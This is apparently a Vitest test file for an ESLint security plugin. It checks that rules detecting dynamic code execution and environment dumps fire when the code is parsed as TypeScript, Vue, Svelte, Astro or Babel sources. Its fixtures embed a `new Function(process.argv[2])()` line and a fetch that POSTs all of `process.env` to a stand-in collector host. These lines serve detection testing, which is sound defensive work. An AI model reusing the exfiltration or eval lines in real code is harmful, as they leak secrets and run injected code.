import { createRequire } from 'node:module';

import * as babelParser from '@babel/eslint-parser';
import * as typescriptParser from '@typescript-eslint/parser';
import * as astroParser from 'astro-eslint-parser';
import { Linter } from 'eslint';
import type { Linter as LinterTypes } from 'eslint';
import * as svelteParser from 'svelte-eslint-parser';
import { describe, expect, it } from 'vitest';
import * as vueParser from 'vue-eslint-parser';

import plugin from '../../src/index.ts';

const require = createRequire(import.meta.url);
const Linter9 = (require('eslint-9') as { Linter: typeof Linter }).Linter;

/** A finding on the line that reads `const code = …`, whatever stands around it. */
const threat = 'new Function(process.argv[2])();';
const dump = 'fetch("https://collector.example", { method: "POST", body: JSON.stringify(process.env) });';

interface Host {
  readonly file: string;
  readonly parser: object;
  readonly parserOptions?: object;
  readonly code: string;
  /** Line of each threat. */
  readonly lines: { readonly [rule: string]: number };
}

const HOSTS: Readonly<Record<string, Host>> = {
  'typescript-eslint': {
    file: 'a.ts',
    parser: typescriptParser,
    code: `const a: string = 'x';\n${threat}\nexport type T = typeof a;\n${dump}\n`,
    lines: { 'no-dynamic-code': 2, 'no-env-dump': 4 },
  },
  'vue, script with TypeScript': {
    file: 'a.vue',
    parser: vueParser,
    parserOptions: { parser: typescriptParser },
    code: `<template>\n  <p @click="go">{{ a }}</p>\n</template>\n\n<script setup lang="ts">\nconst a: string = 'x';\n${threat}\n${dump}\nconst go = () => a;\n</script>\n\n<style>\np { color: red; }\n</style>\n`,
    lines: { 'no-dynamic-code': 7, 'no-env-dump': 8 },
  },
  'vue, options': {
    file: 'b.vue',
    parser: vueParser,
    code: `<script>\nexport default {\n  methods: {\n    go() {\n      ${threat}\n      ${dump}\n    },\n  },\n};\n</script>\n<template><p @click="go" /></template>\n`,
    lines: { 'no-dynamic-code': 5, 'no-env-dump': 6 },
  },
  svelte: {
    file: 'a.svelte',
    parser: svelteParser,
    parserOptions: { parser: typescriptParser },
    code: `<script lang="ts">\n  let a: string = 'x';\n  $: b = a;\n  ${threat}\n  ${dump}\n</script>\n\n{#if a}<p on:click={() => (a = '')}>{a}{b}</p>{/if}\n`,
    lines: { 'no-dynamic-code': 4, 'no-env-dump': 5 },
  },
  astro: {
    file: 'a.astro',
    parser: astroParser,
    parserOptions: { parser: typescriptParser, extraFileExtensions: ['.astro'] },
    code: `---\nconst a: string = 'x';\n${threat}\n${dump}\n---\n<html><body>{a}</body></html>\n`,
    lines: { 'no-dynamic-code': 3, 'no-env-dump': 4 },
  },
};

const withBabel = (plugins: readonly unknown[]): object => ({ requireConfigFile: false, babelOptions: { babelrc: false, configFile: false, parserOpts: { plugins } } });

/** Under ESLint 9 alone: version 7 of the parser crashes under 10, and version 8 does not run on Node 20. */
const BABEL: Readonly<Record<string, Host>> = {
  '@babel/eslint-parser, Flow and JSX': {
    file: 'a.jsx',
    parser: babelParser,
    parserOptions: withBabel(['flow', 'jsx']),
    code: `import type { A } from './a.js';\n${threat}\nexport const B = ({ a }: { a: A }) => <p onClick={() => ${dump.slice(0, -1)}}>{a}</p>;\n`,
    lines: { 'no-dynamic-code': 2, 'no-env-dump': 3 },
  },
  '@babel/eslint-parser, proposals': {
    file: 'a.js',
    parser: babelParser,
    parserOptions: withBabel([['decorators', { version: '2023-11' }], ['pipelineOperator', { proposal: 'hack', topicToken: '%' }], 'doExpressions', 'throwExpressions']),
    code: `@sealed\nexport class A {\n  #a = do { if (x) { 1; } else { 2; } };\n  go() {\n    ${threat}\n    return 'a' |> f(%);\n  }\n}\n${dump}\n`,
    lines: { 'no-dynamic-code': 5, 'no-env-dump': 9 },
  },
};

const places = (messages: readonly LinterTypes.LintMessage[]): string[] => messages.map(({ ruleId, line, message, fatal }) => (fatal ? `FATAL ${message}` : `${ruleId ?? ''} ${line}`));

describe.each([['10', Linter, HOSTS], ['9', Linter9, { ...HOSTS, ...BABEL }]] as const)('ESLint %s', (_version, Engine, hosts) => {
  describe.each(Object.entries(hosts))('%s', (_name, { file, parser, parserOptions = {}, code, lines }) => {
    it.each(['recommended', 'strict'] as const)('%s reports the threats in its code', (preset) => {
      const own = { files: ['**/*.{js,jsx,ts,vue,svelte,astro}'], languageOptions: { parser, parserOptions: { sourceType: 'module', ecmaVersion: 'latest', ...parserOptions } } } as LinterTypes.Config;
      for (const configs of [[own, ...plugin.configs[preset]], [...plugin.configs[preset], own]]) {
        const messages = new Engine({ configType: 'flat' }).verify(code, configs, { filename: file });
        const expected = Object.entries(lines).map(([rule, line]) => `agent-security/${rule} ${line}`);
        expect(places(messages)).toEqual(expect.arrayContaining(expected));
        expect(places(messages).filter((message) => message.startsWith('FATAL'))).toEqual([]);
      }
    });
  });
});
